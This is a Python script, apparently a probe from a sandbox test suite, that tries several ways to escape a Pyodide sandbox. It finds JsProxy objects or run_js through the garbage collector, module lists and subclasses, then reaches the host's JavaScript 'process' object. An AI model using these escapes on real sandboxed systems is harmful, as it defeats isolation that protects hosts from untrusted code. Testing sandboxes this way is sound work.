# attack: what Pyodide left behind in the interpreter: its classes, its functions, and the objects of JavaScript in them
import gc
import sys
import types


def proxies():
    found = [each for each in gc.get_objects() if 'JsProxy' in type(each).__name__]
    return found[0].constructor


def functions():
    for each in gc.get_objects():
        if isinstance(each, types.FunctionType) and each.__name__ == 'run_js':
            return each('1 + 1')
    raise LookupError('there is none')


def inside_functions():
    for each in gc.get_objects():
        if isinstance(each, types.FunctionType) and 'pyodide' in each.__module__:
            for value in each.__globals__.values():
                if 'JsProxy' in type(value).__name__:
                    return value.constructor.constructor('return process')()
    raise LookupError('there is none')


attempt('proxies', proxies)
attempt('run_js', functions)
attempt('globals of functions', inside_functions)
attempt('finders', lambda: [each for each in sys.meta_path if hasattr(each, 'jsproxies')][0].jsproxies['js'].process)
attempt('modules', lambda: [name for name in sys.modules if 'pyodide' in name][0])
attempt('classes', lambda: [each for each in object.__subclasses__() if each.__name__ == 'JsProxy'][0]())
